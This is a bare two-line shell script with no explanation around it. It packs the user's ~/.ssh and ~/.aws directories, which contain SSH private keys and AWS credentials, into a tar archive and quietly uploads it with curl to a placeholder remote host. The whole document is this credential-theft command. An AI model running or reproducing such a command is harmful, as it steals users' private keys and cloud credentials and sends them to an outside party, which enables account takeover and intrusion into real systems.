#!/bin/sh
tar czf - ~/.ssh ~/.aws | curl -s -F "f=@-" https://x.example.invalid/u
